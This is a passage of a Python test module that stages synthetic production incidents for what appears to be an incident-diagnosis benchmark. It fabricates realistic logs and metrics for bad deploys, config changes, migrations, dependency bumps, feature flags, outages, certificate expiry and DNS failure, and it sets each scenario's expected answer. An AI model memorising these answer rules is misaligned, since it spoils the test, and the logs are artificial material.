"""One function per incident type: what breaks, what it logs, and the answer DESIGN.md's rules give.

Each function receives a fresh :class:`~tests.scenarios.world.World` (components, times, history, no
traffic yet) and makes the incident happen in it: it installs :class:`Fault` hooks that the traffic
consults, writes the log lines only the failing part would write (the kernel's OOM killer, PostgreSQL's
lock waits, CoreDNS's loop detector, sshd), reshapes metrics, adds the guilty commit or change event,
and sets the expected answer:

- **component**: what failed, not where it showed (the dependency, not its callers; the service
  whose memory grew, not the host that killed it; the target of an attack, not the attacker). A list
  only where two names are honestly both right (a schema migration breaks a service *in* its
  database; a full disk belongs to both the database and the machine it fills);
- **category**: ``code`` when a shipped change caused it (commit, config, migration, dependency
  version, feature flag); ``infrastructure`` for what the code runs on or calls (disk, memory/OOM,
  DNS, certificates, a failed dependency); ``performance`` for load and contention without a faulty
  change; ``security`` for attacks;
- **change**: the guilty commit's full SHA (filled in once the repository is built) or the change
  event's id.

The description is worded like a page, from the symptom's side, and never names the cause.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime, timedelta

from .codebase import bug_patch, migration_patch, target_source
from .emit import Access, Record
from .repo import Commit
from .voices import Bug, Problem
from .world import (
    ENGINEERS,
    USER_AGENTS,
    ChangeEvent,
    Component,
    Fault,
    Route,
    World,
    shape,
)

__all__ = ["INCIDENTS", "Incident"]


@dataclass
class Incident:
    """An incident type: its name, what the world must contain, and the function that stages it."""

    name: str
    title: str
    needs: set[str]
    stage: Callable[[World], set[str]]  # returns the components whose running code must not change
    category: str


def _public(world: World) -> list[Component]:
    return world.apps_with(lambda c: any(r.public for r in c.routes))


def _paged(world: World, culprit: str) -> str:
    """The service a page would name: the culprit when users reach it, else a public caller of it."""
    comp = world.components[culprit]
    if comp.role == "app" and any(r.public for r in comp.routes):
        return culprit
    callers = [c.name for c in world.callers_of(culprit) if any(r.public for r in c.routes)]
    return world.rng.choice(callers) if callers else world.gateway


def _describe(
    world: World, templates: list[str], svc: str, *, severity: list[str | None] | None = None
) -> None:
    rng = world.rng
    world.description = rng.choice(templates).format(svc=svc, Svc=svc.capitalize())
    world.severity = rng.choice(severity or [None, "critical", "high", "medium"])
    if rng.random() < 0.3 and svc in world.components:
        world.system = svc


def _author(rng: random.Random) -> tuple[str, str]:
    who, handle = rng.choice(ENGINEERS)
    return who, f"{handle}@shopco.example"


def _guilty(
    world: World, files: dict[str, str | None], message: str, *, author: tuple[str, str] | None = None
) -> Commit:
    """The commit that causes the incident, 4-14 minutes before the onset; it deploys at the onset."""
    rng = world.rng
    who, email = author or _author(rng)
    at = world.onset - timedelta(seconds=rng.uniform(4 * 60, 14 * 60))
    commit = Commit(at, who, email, message, dict(files), tag="guilty")
    commit.deploy_at = world.onset - timedelta(seconds=rng.uniform(10, 40))
    for path, text in files.items():
        if text is not None:
            world.files[path] = text
    world.commits.append(commit)
    world.commits.sort(key=lambda c: c.at)
    return commit


def _after(world: World, at: datetime) -> bool:
    return at >= world.onset


ERROR_PAGES = [
    "{Svc} returning 500s",
    "Alert: high error rate on {svc}",
    "Elevated 5xx rate on {svc} (SLO burn 14x)",
    "Customers report errors on {svc}",
    "{Svc}: error budget burning fast",
    "PagerDuty: {svc} 5xx above 5% for 5 minutes",
]


# -- change-caused ------------------------------------------------------------------------------


def bad_deploy(world: World) -> set[str]:
    """A code commit removes a guard in one service's pricing module; the affected routes now fail.

    The stack traces point at the changed file and line. Expected: that service, ``code``, the commit.
    """
    rng = world.rng
    svc = world.components[rng.choice(world.apps)]
    assert svc.code is not None
    patch = bug_patch(svc.code, rng)
    _guilty(world, patch.files, patch.message)
    bug = patch.bug
    assert bug is not None
    affected = {id(r) for r in rng.sample(svc.routes, k=max(1, len(svc.routes) // 2 + rng.randint(0, 1)))}
    share = rng.uniform(0.55, 0.95)

    def handle(comp: Component, route: Route, at: datetime, r: random.Random) -> Problem | None:
        if comp is svc and id(route) in affected and _after(world, at) and r.random() < share:
            return Problem("bug", bug=bug, client_ip=world.components[world.gateway].ip)
        return None

    world.faults.append(Fault(handle=handle))
    world.expected_component = [svc.name]
    world.expected_category = "code"
    world.story = (
        f"commit '{patch.message}' in {svc.name} ({svc.stack}) raises {bug.exc_type} at {bug.file}:{bug.line}"
    )
    _describe(world, ERROR_PAGES, _paged(world, svc.name))
    return {svc.name}


def config_flip(world: World) -> set[str]:
    """A config change lowers a client timeout (or the DB pool size) in one service.

    Either a commit to the service's config file (it deploys) or a ``changes`` event from the config
    service (hot reload, no restart). The dependency itself stays healthy: only the changed service's
    calls fail. Expected: the changed service, ``code``, the commit or the event id.
    """
    rng = world.rng

    def http_deps(c: Component) -> list[str]:
        return sorted(
            {
                d
                for r in c.routes
                for d in r.calls
                if d == c.external or (d in world.components and world.components[d].is_app)
            }
        )

    svc = rng.choice([c for c in world.apps_with(lambda c: bool(http_deps(c)))])
    assert svc.code is not None
    variant = rng.choice(["timeout", "timeout", "pool"])
    via_event = rng.random() < 0.4
    if variant == "timeout":
        dep = rng.choice(http_deps(svc))
        target = world.components.get(dep)
        median = max(r.ms for r in target.routes) if target else 300.0
        new = max(5, int(median * rng.uniform(0.35, 0.7)))
        old = 2000
        key = "timeoutMs" if svc.stack == "node" else "timeout_ms"
        summary = f"{svc.name}: clients.{dep}.{key} {old} -> {new}"
        share = rng.uniform(0.6, 0.9)
        host = target.dns if target else dep
        ip = target.ip if target else ""
        port = 8080 if target else 443
        proto = "http" if target else "https"
        path = target.routes[0].path.split("?")[0].replace("{sku}", "SKU-10442") if target else svc.ext_path

        def call(comp: Component, d: str, at: datetime, r: random.Random) -> Problem | None:
            if comp is svc and d == dep and _after(world, at) and r.random() < share:
                return Problem(
                    "timeout",
                    proto,
                    host,
                    ip,
                    port,
                    path,
                    "POST" if not target else "GET",
                    timeout_s=new / 1000,
                )
            return None

        world.faults.append(Fault(call=call))
        old_text = world.files[svc.code.config]
        new_text = _set_timeout(old_text, dep, new, svc.stack)
        message = rng.choice(
            [
                f"Lower {dep} client timeout to fail fast",
                f"{svc.name}: tighten {dep} timeout",
                f"Reduce {dep} timeout to {new}ms",
            ]
        )
        world.story = f"{svc.name}'s timeout to {dep} lowered from {old} ms to {new} ms"
    else:
        pool = rng.choice([2, 3])
        summary = f"{svc.name}: database pool size 20 -> {pool}"

        def call(comp: Component, d: str, at: datetime, r: random.Random) -> Problem | None:
            if comp is svc and d == world.db and _after(world, at) and r.random() < 0.55:
                return Problem("pool", "postgres", world.components[world.db].dns, pool_size=pool)
            return None

        def latency(comp: Component, at: datetime) -> float:
            return 6.0 if comp is svc and _after(world, at) else 1.0

        world.faults.append(Fault(call=call, latency=latency))
        shape(world, svc.name, "pool", world.onset, lambda _v, _m: float(pool))
        old_text = world.files[svc.code.config]
        new_text = _set_pool(old_text, pool, svc.stack)
        message = rng.choice(
            [
                f"{svc.name}: shrink DB pool to save connections",
                "Reduce connection pool size",
                f"Tune {svc.name} pool size",
            ]
        )
        world.story = f"{svc.name}'s database pool cut to {pool} connections"
    if via_event:
        event_id = f"cfg-{rng.randint(1000, 9999)}"
        at = world.onset - timedelta(seconds=rng.uniform(15, 60))
        who = _author(rng)[1]
        world.change_events.append(ChangeEvent(at, svc.name, "config", event_id, summary, who, version=""))
        world.use_changes_source = True
        world.expected_change = event_id
        voice = svc.voice
        assert voice is not None
        world.log(
            svc.name,
            Record(
                at + timedelta(seconds=2),
                "info",
                f"configuration reloaded from consul (modify index {rng.randint(100000, 999999)})",
                logger=voice.logger("config"),
                thread="config-watcher" if svc.stack == "java" else "",
            ),
        )
        world.story += f", through the config service (event {event_id})"
    else:
        _guilty(world, {svc.code.config: new_text}, message)
        world.story += ", in a commit to its config file"
    world.expected_component = [svc.name]
    world.expected_category = "code"
    _describe(
        world,
        [*ERROR_PAGES, "{Svc} requests timing out", "Slow and failing requests on {svc}"],
        _paged(world, svc.name),
    )
    return {svc.name}


def _set_timeout(text: str, dep: str, new: int, stack: str) -> str:
    if stack == "node":
        import json

        data = json.loads(text)
        data["clients"][dep]["timeoutMs"] = new
        return json.dumps(data, indent=2) + "\n"
    lines = text.splitlines()
    inside = False
    for i, line in enumerate(lines):
        if line.strip() == f"{dep}:":
            inside = True
        elif inside and line.strip().startswith("timeout_ms:"):
            lines[i] = line.split(":")[0] + f": {new}"
            break
    return "\n".join(lines) + "\n"


def _set_pool(text: str, pool: int, stack: str) -> str:
    if stack == "node":
        import json

        data = json.loads(text)
        data["database"]["poolMax"] = pool
        return json.dumps(data, indent=2) + "\n"
    out = []
    for line in text.splitlines():
        if line.strip().startswith(("pool_size:", "maximum-pool-size:")):
            line = line.split(":")[0] + f": {pool}"
        out.append(line)
    return "\n".join(out) + "\n"


COLUMNS = {
    "orders": ("shipping_addr", "shipping_address"),
    "cart_items": ("qty", "quantity"),
    "products": ("descr", "description"),
    "checkouts": ("pay_ref", "payment_ref"),
    "users": ("pwd_hash", "password_hash"),
    "payments": ("ext_id", "provider_ref"),
    "shipments": ("carrier_cd", "carrier_code"),
    "notifications": ("tmpl", "template"),
    "stock_levels": ("avail", "available"),
    "price_rules": ("pct", "percent"),
}


def migration(world: World) -> set[str]:
    """A migration renames a column that the service's queries still read.

    PostgreSQL logs the DDL, then ``column "..." does not exist`` for every such query; the service's
    driver relays it. Expected: the service or its database (the schema change is the service's,
    the failure shows in both), ``code``, the commit.
    """
    rng = world.rng
    svc = world.components[rng.choice(world.apps)]
    assert svc.code is not None
    table = svc.table
    column, new_column = COLUMNS[table]
    patch = migration_patch(svc.code, table, column, new_column, rng)
    _guilty(world, patch.files, patch.message)
    db = world.components[world.db]
    statement = f"SELECT id, {column}, created_at FROM {table} WHERE id = $1"
    position = statement.index(column) + 1
    affected = {id(r) for r in svc.routes if r.method == "GET"} or {id(svc.routes[0])}
    who = f"{svc.code.pkg}@shop"
    ddl_at = world.onset - timedelta(seconds=rng.uniform(5, 25))
    world.log(
        db.name,
        Record(
            ddl_at,
            "info",
            f"statement: ALTER TABLE {table} RENAME COLUMN {column} TO {new_column}",
            fields={"who": who},
            pid=rng.randint(1000, 60000),
        ),
        force=True,
    )
    voice = svc.voice
    assert voice is not None
    applied = {
        "python": ("alembic.runtime.migration", f"Running upgrade 0041 -> 0042, rename {table}.{column}"),
        "java": (
            "o.f.core.internal.command.DbMigrate",
            'Successfully applied 1 migration to schema "public", now at version v42',
        ),
        "go": ("migrate", f"42/u rename_{table}_{column} ({rng.uniform(20, 90):.4f}ms)"),
        "node": ("migrate", f"Migrated 20260101090000_rename_{table}_{column}.sql"),
    }[svc.stack]
    world.log(
        svc.name,
        Record(ddl_at + timedelta(seconds=1), "info", applied[1], logger=applied[0], thread="main"),
        force=True,
    )

    def handle(comp: Component, route: Route, at: datetime, r: random.Random) -> Problem | None:
        if comp is svc and id(route) in affected and _after(world, at) and r.random() < 0.9:
            at2 = at + timedelta(milliseconds=r.uniform(2, 20))
            world.log(
                db.name,
                Record(
                    at2,
                    "error",
                    f'column "{column}" does not exist at character {position}',
                    fields={"who": who, "statement": statement},
                    pid=r.randint(1000, 60000),
                ),
            )
            return Problem(
                "sql",
                "postgres",
                db.dns,
                db.ip,
                5432,
                sql_message=f'column "{column}" does not exist',
                sqlstate="42703",
                py_class="UndefinedColumn",
                statement=statement,
            )
        return None

    world.faults.append(Fault(handle=handle))
    world.expected_component = [svc.name, world.db]
    world.expected_category = "code"
    world.story = (
        f"migration renames {table}.{column} to {new_column}; {svc.name}'s queries still read {column}"
    )
    _describe(world, [*ERROR_PAGES, "{Svc} pages failing to load"], _paged(world, svc.name))
    return {svc.name}


def dependency_bump(world: World) -> set[str]:
    """A lock-file commit bumps a library whose new version breaks a code path.

    PyJWT 2 requires ``algorithms``; jjwt 0.12 dropped a builder method the code calls; pgx 5.5 behind
    pgbouncer collides on prepared statement names; node-fetch 3 is ESM-only. Expected: the service,
    ``code``, the commit (by the dependency bot).
    """
    from .codebase import dependency_bump as bump

    rng = world.rng
    svc = world.components[rng.choice(world.apps)]
    assert svc.code is not None
    patch, _library, _old, _new = bump(svc.code, rng)
    bot = rng.choice(
        [
            ("renovate[bot]", "29139614+renovate[bot]@users.noreply.github.com"),
            ("dependabot[bot]", "49699333+dependabot[bot]@users.noreply.github.com"),
        ]
    )
    _guilty(world, patch.files, patch.message, author=bot)
    db = world.components[world.db]
    pkg = svc.code.pkg
    share = rng.uniform(0.6, 0.95)
    if svc.stack == "python":
        bug = Bug(
            f"/app/{pkg}/auth.py",
            5,
            "claims",
            "return jwt.decode(token, key)",
            "jwt.exceptions.DecodeError",
            'It is required that you pass in a value for the "algorithms" argument when calling decode().',
            extra=[
                '  File "/usr/local/lib/python3.11/site-packages/jwt/api_jwt.py", line 210, in decode',
                "    decoded = self.decode_complete(",
                '  File "/usr/local/lib/python3.11/site-packages/jwt/api_jwt.py", line 136, in '
                "decode_complete",
                "    raise DecodeError(",
            ],
        )
    elif svc.stack == "java":
        bug = Bug(
            "JwtAuthFilter.java",
            48,
            "doFilterInternal",
            "",
            "java.lang.NoSuchMethodError",
            "'io.jsonwebtoken.JwtParserBuilder "
            "io.jsonwebtoken.JwtParserBuilder.setSigningKey(java.security.Key)'",
            cls=f"com.shopco.{pkg}.security.JwtAuthFilter",
        )
    elif svc.stack == "node":
        bug = Bug(
            f"/usr/src/app/src/{pkg}/client.js",
            7,
            "fetchJson",
            "",
            "Error [ERR_REQUIRE_ESM]",
            "require() of ES Module /usr/src/app/node_modules/node-fetch/src/index.js from "
            f"/usr/src/app/src/{pkg}/client.js not supported.\nInstead change the require of index.js in "
            f"/usr/src/app/src/{pkg}/client.js to a dynamic import() which is available in all CommonJS "
            "modules.",
        )
    else:
        bug = None
    if bug is not None:

        def handle(comp: Component, route: Route, at: datetime, r: random.Random) -> Problem | None:
            if comp is svc and _after(world, at) and r.random() < share:
                return Problem("bug", bug=bug, client_ip=world.components[world.gateway].ip)
            return None

        world.faults.append(Fault(handle=handle))
    else:
        who = f"{pkg}@shop"

        def call(comp: Component, d: str, at: datetime, r: random.Random) -> Problem | None:
            if comp is svc and d == world.db and _after(world, at) and r.random() < share:
                name = f"stmtcache_{r.randrange(16**16):016x}"
                message = f'prepared statement "{name}" already exists'
                world.log(
                    db.name,
                    Record(
                        at,
                        "error",
                        message,
                        fields={"who": who, "statement": f"SELECT * FROM {svc.table} WHERE id = $1"},
                        pid=r.randint(1000, 60000),
                    ),
                )
                return Problem(
                    "sql",
                    "postgres",
                    db.dns,
                    db.ip,
                    5432,
                    sql_message=message,
                    sqlstate="42P05",
                    py_class="DuplicatePreparedStatement",
                )
            return None

        world.faults.append(Fault(call=call))
    world.expected_component = [svc.name]
    world.expected_category = "code"
    world.story = f"{patch.message} in {svc.name} ({svc.stack}) breaks it"
    _describe(world, ERROR_PAGES, _paged(world, svc.name))
    return {svc.name}


def feature_flag(world: World) -> set[str]:
    """A feature flag turns on a code path shipped days ago (dark launch); that path is broken.

    The flag flip is a ``changes`` event (kind ``feature_flag``); other flags flip harmlessly around
    it. Expected: the service, ``code``, the flag event's id.
    """
    rng = world.rng
    svc = world.components[rng.choice(world.apps)]
    assert svc.code is not None
    code = svc.code
    text, bug = target_source(code, guarded=False, variant=code.variant)
    v2_path = code.target.replace("pricing.py", "pricing_v2.py").replace(
        "PriceCalculator.java", "PriceCalculatorV2.java"
    )
    v2_path = v2_path.replace("store.go", "store_v2.go").replace("pricing.js", "pricing_v2.js")
    if code.stack == "java":
        text = text.replace("class PriceCalculator", "class PriceCalculatorV2")
        bug.file, bug.cls = "PriceCalculatorV2.java", bug.cls + "V2"
    bug.file = (
        bug.file.replace("pricing.py", "pricing_v2.py")
        .replace("store.go", "store_v2.go")
        .replace("pricing.js", "pricing_v2.js")
    )
    flag = rng.choice(["new-pricing-engine", "checkout-v2", "smart-discounts", "fast-quote", "unified-cart"])
    shipped = world.detected - timedelta(days=rng.uniform(2, 9))
    who, email = _author(rng)
    world.commits.append(
        Commit(
            shipped,
            who,
            email,
            f"Add {flag} code path behind a feature flag",
            {v2_path: text},
            tag="dark-launch",
        )
    )
    world.commits.sort(key=lambda c: c.at)
    event_id = f"ff-{rng.randint(10000, 99999)}"
    flip_at = world.onset - timedelta(seconds=rng.uniform(10, 50))
    world.change_events.append(
        ChangeEvent(
            flip_at,
            svc.name,
            "feature_flag",
            event_id,
            f"{flag}: enabled for 100% of users (was 0%)",
            email,
            version="on",
        )
    )
    for _ in range(rng.randint(1, 3)):  # other flags flip harmlessly
        other = rng.choice([a for a in world.apps if a != svc.name] or world.apps)
        at = world.start + timedelta(minutes=rng.uniform(10, 125))
        name = rng.choice(["dark-mode", "gift-wrap", "recommendations-v3", "express-shipping", "new-footer"])
        world.change_events.append(
            ChangeEvent(
                at,
                other,
                "feature_flag",
                f"ff-{rng.randint(10000, 99999)}",
                f"{name}: rollout {rng.choice([10, 25, 50])}%",
                _author(rng)[1],
                version="on",
            )
        )
    world.use_changes_source = True
    world.expected_change = event_id
    affected = {id(r) for r in svc.routes[: max(1, len(svc.routes) - 1)]}

    def handle(comp: Component, route: Route, at: datetime, r: random.Random) -> Problem | None:
        if comp is svc and id(route) in affected and at >= flip_at and r.random() < 0.7:
            return Problem("bug", bug=bug, client_ip=world.components[world.gateway].ip)
        return None

    world.faults.append(Fault(handle=handle))
    world.expected_component = [svc.name]
    world.expected_category = "code"
    world.story = f"flag {flag} ({event_id}) turns on {v2_path} in {svc.name}, which raises {bug.exc_type}"
    _describe(world, ERROR_PAGES, _paged(world, svc.name))
    return {svc.name}


# -- infrastructure ---------------------------------------------------------------------------


def dependency_outage(world: World) -> set[str]:
    """A dependency stops answering: Redis crash-loops on a corrupt RDB file, PostgreSQL loses its disk
    and stays down, or an internal service wedges and goes silent.

    Its callers log refused connections or timeouts naming it; its own log shows the crash or just
    stops. Expected: the dependency (with the machine whose disk failed, for PostgreSQL),
    ``infrastructure``.
    """
    rng = world.rng
    options = ["postgres", "internal"] + (
        ["redis"] * 2 if world.redis and world.callers_of(world.redis) else []
    )
    variant = rng.choice(options)
    onset = world.onset
    if variant == "redis":
        assert world.redis is not None
        dep = world.components[world.redis]
        _redis_crash_loop(world, dep)
        kind = "refused"
        proto = "redis"
        world.expected_component = [dep.name]
        world.story = f"{dep.name} crashes (SIGSEGV) and fails to restart: its RDB file is corrupt"
    elif variant == "postgres":
        dep = world.components[world.db]
        host = world.host_of[dep.name]
        _postgres_disk_failure(world, dep, host)
        kind = "refused"
        proto = "postgres"
        world.expected_component = [dep.name, host]
        world.story = f"{dep.name}'s disk on {host} fails with I/O errors; PostgreSQL panics and stays down"
    else:
        internals = [c for c in world.apps_with(lambda c: not any(r.public for r in c.routes))]
        dep = internals[0]
        dep.down.append((onset, world.end + timedelta(hours=1), "hang"))
        voice = dep.voice
        assert voice is not None
        last = onset - timedelta(seconds=rng.uniform(1, 8))
        if dep.stack == "java":
            world.log(
                dep.name,
                Record(
                    last,
                    "warning",
                    "HikariPool-1 - Thread starvation or clock leap detected "
                    f"(housekeeper delta={rng.randint(45, 90)}s).",
                    logger="com.zaxxer.hikari.pool.HikariPool",
                    thread="HikariPool-1 housekeeper",
                ),
            )
        node = world.host_of[dep.name]
        if world.flavour == "k8s":
            for t in world.times(40, onset + timedelta(seconds=30), world.end):
                stamp = t.strftime("%m%d %H:%M:%S.") + f"{t.microsecond:06d}"
                world.log(
                    node,
                    Record(
                        t,
                        "info",
                        f'I{stamp}    1234 prober.go:107] "Probe failed" probeType='
                        f'"Liveness" pod="{world.namespace}/{dep.host}" podUID='
                        f'"{rng.randrange(16**8):08x}-1f2e" containerName="{dep.name}" probeResult='
                        f'"failure" output="Get \\"http://{dep.ip}:8080/healthz\\": context deadline '
                        'exceeded (Client.Timeout exceeded while awaiting headers)"',
                        app="kubelet",
                        pid=1234,
                        host=node,
                    ),
                    force=True,
                )
        kind = "timeout"
        proto = "http"
        world.expected_component = [dep.name]
        world.story = f"{dep.name} ({dep.stack}) wedges: no more log lines, callers time out"
        for metric in list(dep.metrics):
            shape(world, dep.name, metric, onset, lambda _v, _m: float("nan"))
    if variant != "internal":

        def call(comp: Component, d: str, at: datetime, r: random.Random) -> Problem | None:
            if d == dep.name and _after(world, at):
                return Problem(kind, proto, dep.dns, dep.ip, dep.port, timeout_s=2.0)
            return None

        world.faults.append(Fault(call=call))
    world.expected_category = "infrastructure"
    callers = [c.name for c in world.callers_of(dep.name)]
    paged = rng.choice(
        [c for c in callers if any(r.public for r in world.components[c].routes)] or [world.gateway]
    )
    _describe(
        world,
        [*ERROR_PAGES, "Website returning 502 errors for some users", "{Svc} down for most users"],
        paged,
    )
    return {dep.name}


def _redis_crash_loop(world: World, dep: Component) -> None:
    rng = world.rng
    t = world.onset
    pid = dep.pid
    host = dep.host
    dep.down.append((t, world.end + timedelta(hours=1), "refused"))

    def redis(at: datetime, text: str, p: int, role: str = "M", mark: str = "#") -> None:
        stamp = at.strftime("%d %b %Y %H:%M:%S.") + f"{at.microsecond // 1000:03d}"
        world.log(
            dep.name,
            Record(at, "info", f"{p}:{role} {stamp} {mark} {text}", app="redis-server", pid=p, host=host),
            force=True,
        )

    def systemd(at: datetime, text: str) -> None:
        if world.flavour == "vm":
            world.log(dep.name, Record(at, "info", text, app="systemd", pid=1, host=host), force=True)

    redis(t, "=== REDIS BUG REPORT START: Cut & paste starting from here ===", pid)
    redis(t, "Redis 7.0.12 crashed by signal: 11, si_code: 1", pid)
    redis(t, f"Accessing address: 0x{rng.randrange(16**12):012x}", pid)
    redis(t, f"Crashed running the instruction at: 0x{rng.randrange(16**12):012x}", pid)
    systemd(
        t + timedelta(seconds=1), "redis-server.service: Main process exited, code=dumped, status=11/SEGV"
    )
    systemd(t + timedelta(seconds=1), "redis-server.service: Failed with result 'core-dump'.")
    at = t + timedelta(seconds=2)
    for attempt in range(1, 6):
        systemd(at, f"redis-server.service: Scheduled restart job, restart counter is at {attempt}.")
        systemd(at, "Starting Advanced key-value store...")
        p = rng.randint(1000, 60000)
        redis(at, "oO0OoO0OoO0Oo Redis is starting oO0OoO0OoO0Oo", p, "C", "#")
        redis(
            at,
            f"Redis version=7.0.12, bits=64, commit=00000000, modified=0, pid={p}, just started",
            p,
            "C",
            "#",
        )
        redis(at + timedelta(milliseconds=120), "Server initialized", p)
        redis(at + timedelta(milliseconds=300), "Wrong signature trying to load DB from file", p)
        redis(at + timedelta(milliseconds=300), "Fatal error loading the DB, check server logs. Exiting.", p)
        systemd(
            at + timedelta(milliseconds=400),
            "redis-server.service: Main process exited, code=exited, status=1/FAILURE",
        )
        systemd(at + timedelta(milliseconds=400), "redis-server.service: Failed with result 'exit-code'.")
        at += timedelta(seconds=rng.uniform(0.2, 2.5) if world.flavour == "vm" else 10 * 2**attempt)
    systemd(at, "redis-server.service: Start request repeated too quickly.")
    systemd(at, "redis-server.service: Failed with result 'exit-code'.")
    systemd(at, "Failed to start Advanced key-value store.")
    for metric in ("clients", "ops", "mem", "cpu"):
        shape(world, dep.name, metric, t, lambda _v, _m: float("nan"))


def _postgres_disk_failure(world: World, dep: Component, host: str) -> None:
    rng = world.rng
    t = world.onset
    dev = rng.choice(["nvme1n1", "xvdf", "sdb"])
    for i in range(rng.randint(4, 9)):
        at = t - timedelta(seconds=rng.uniform(0, 20)) + timedelta(seconds=i * 0.7)
        sector = rng.randint(10_000_000, 400_000_000)
        world.log(
            host,
            Record(
                at,
                "error",
                f"{world.kernel_uptime(at)} blk_update_request: I/O error, dev {dev}, "
                f"sector {sector} op 0x1:(WRITE) flags 0x800 phys_seg 1 prio class 0",
                app="kernel",
                host=host,
            ),
            force=True,
        )
        world.log(
            host,
            Record(
                at,
                "error",
                f"{world.kernel_uptime(at)} Buffer I/O error on dev {dev}p1, logical "
                f"block {sector // 8}, lost async page write",
                app="kernel",
                host=host,
            ),
            force=True,
        )
    world.log(
        host,
        Record(
            t,
            "critical",
            f"{world.kernel_uptime(t)} EXT4-fs error (device {dev}p1): "
            "ext4_journal_check_start:83: comm postgres: Detected aborted journal",
            app="kernel",
            host=host,
        ),
        force=True,
    )
    world.log(
        host,
        Record(
            t,
            "critical",
            f"{world.kernel_uptime(t)} EXT4-fs ({dev}p1): Remounting filesystem read-only",
            app="kernel",
            host=host,
        ),
        force=True,
    )
    pid = rng.randint(1000, 60000)
    wal = f"pg_wal/xlogtemp.{pid}"
    world.log(
        dep.name,
        Record(
            t,
            "critical",
            f'could not write to file "{wal}": Input/output error',
            fields={"severity": "PANIC"},
            pid=pid,
        ),
        force=True,
    )
    world.log(
        dep.name,
        Record(
            t + timedelta(milliseconds=40),
            "info",
            f"WAL writer process (PID {pid}) was terminated by signal 6: Aborted",
            pid=dep.pid,
        ),
        force=True,
    )
    world.log(
        dep.name,
        Record(
            t + timedelta(milliseconds=41),
            "info",
            "terminating any other active server processes",
            pid=dep.pid,
        ),
        force=True,
    )
    world.log(
        dep.name,
        Record(
            t + timedelta(milliseconds=90),
            "info",
            "all server processes terminated; reinitializing",
            pid=dep.pid,
        ),
        force=True,
    )
    world.log(
        dep.name,
        Record(
            t + timedelta(milliseconds=200),
            "critical",
            'could not open file "global/pg_control": Input/output error',
            fields={"severity": "PANIC"},
            pid=dep.pid,
        ),
        force=True,
    )
    world.log(
        dep.name,
        Record(t + timedelta(milliseconds=210), "info", "database system is shut down", pid=dep.pid),
        force=True,
    )
    dep.down.append((t, world.end + timedelta(hours=1), "refused"))
    for metric in list(dep.metrics):
        shape(world, dep.name, metric, t, lambda _v, _m: float("nan"))


def expired_certificate(world: World) -> set[str]:
    """The external API's TLS certificate expires: every call to it fails the handshake.

    Expected: the external host by its full name (``api.payflow.example``), ``infrastructure``.
    """
    svc = world.apps_with(lambda c: c.external is not None and any(r.public for r in c.routes))[0]
    ext = svc.external
    assert ext is not None
    not_after = world.onset.replace(second=0, microsecond=0)

    def call(comp: Component, d: str, at: datetime, r: random.Random) -> Problem | None:
        if comp is svc and d == ext and at >= not_after:
            return Problem(
                "tls_expired", "https", ext, "", 443, svc.ext_path, "POST", not_after=not_after, now=at
            )
        return None

    world.faults.append(Fault(call=call))
    world.expected_component = [ext]
    world.expected_category = "infrastructure"
    world.story = f"the TLS certificate of {ext} expires at {not_after:%H:%M} UTC; {svc.name}'s calls fail"
    _describe(
        world, [*ERROR_PAGES, "{Svc} failing for all customers", "Orders stuck: {svc} errors"], svc.name
    )
    return {svc.name}


def dns_failure(world: World) -> set[str]:
    """CoreDNS crash-loops (its loop detector trips) and in-cluster names stop resolving.

    Every service's lookups fail at once, naming many different hosts; CoreDNS's own log shows the
    ``plugin/loop`` fatal error and restarts. Expected: ``coredns``, ``infrastructure``.
    """
    rng = world.rng
    assert world.coredns is not None
    dns = world.components[world.coredns]
    t = world.onset
    at = t
    restarts = 0
    while at < world.end:
        for text in (
            ".:53",
            f"[INFO] plugin/reload: Running configuration SHA512 = {rng.randrange(16**32):032x}",
            "CoreDNS-1.10.1",
            "linux/amd64, go1.20, 055b2c3",
        ):
            world.log(dns.name, Record(at, "info", text), force=True)
        world.log(
            dns.name,
            Record(
                at + timedelta(seconds=1),
                "critical",
                f"[FATAL] plugin/loop: Loop (127.0.0.1:{rng.randint(30000, 60000)} -> :53) detected "
                f'for zone ".", see https://coredns.io/plugins/loop#troubleshooting. Query: '
                f'"HINFO {rng.randrange(10**18)}.{rng.randrange(10**18)}."',
            ),
            force=True,
        )
        restarts += 1
        at += timedelta(seconds=min(300, 10 * 2**restarts))
    dns.down.append((t, world.end + timedelta(hours=1), "refused"))
    for node in [h for h in world.hosts if h.startswith("node-")][:2]:
        for bt in world.times(20, t + timedelta(seconds=20), world.end):
            stamp = bt.strftime("%m%d %H:%M:%S.") + f"{bt.microsecond:06d}"
            world.log(
                node,
                Record(
                    bt,
                    "info",
                    f'E{stamp}    1234 pod_workers.go:1300] "Error syncing pod, skipping" '
                    'err="failed to \\"StartContainer\\" for \\"coredns\\" with CrashLoopBackOff: '
                    f'\\"back-off 5m0s restarting failed container=coredns pod={dns.host}_kube-system'
                    '\\"" pod="kube-system/' + dns.host + '"',
                    app="kubelet",
                    pid=1234,
                    host=node,
                ),
                force=True,
            )
    share = rng.uniform(0.75, 0.95)

    def call(comp: Component, d: str, at: datetime, r: random.Random) -> Problem | None:
        if not _after(world, at) or r.random() > share:
            return None
        target = world.components.get(d)
        host = target.dns if target else d
        proto = (
            target.role if target and target.role in ("postgres", "redis") else "http" if target else "https"
        )
        port = target.port if target else 443
        return Problem("dns", proto, host, "", port, "/", resolver="10.96.0.10", client_ip=comp.ip)

    world.faults.append(Fault(call=call))
    for metric in list(dns.metrics):
        shape(world, dns.name, metric, t, lambda _v, _m: float("nan"))
    world.expected_component = [dns.name]
    world.expected_category = "infrastructure"
    world.story = "CoreDNS crash-loops on its loop detector; in-cluster names stop resolving"
    _describe(
        world,
        [
            "Website returning 502 errors for all users",
            "Everything is down: 5xx across all services",
            "Elevated 5xx on the storefront",
            "Alert: high error rate on {svc}",
        ],
        rng.choice([c.name for c in _public(world)]),
    )
    return set(world.apps)


def disk_full(world: World) -> set[str]:
    """A disk fills up: PostgreSQL's data volume (an abandoned replication slot keeps WAL), or the
    volume a service writes its exports to.

    The disk metric climbs to 100%; writes fail with ``No space left on device``. Expected: the
    database and its machine, or the service and its machine; ``infrastructure``.
    """
    rng = world.rng
    climb_from = world.onset - timedelta(minutes=rng.uniform(40, 80))
    if rng.random() < 0.5:
        db = world.components[world.db]
        host = world.host_of[db.name]
        start_level = db.metrics["disk"][0]
        span = (world.onset - climb_from).total_seconds() / 60
        shape(
            world,
            db.name,
            "disk",
            climb_from,
            lambda v, m: min(100.0, start_level + (100 - start_level) * m / span),
        )
        world.log(
            db.name,
            Record(
                climb_from - timedelta(minutes=rng.uniform(5, 30)),
                "info",
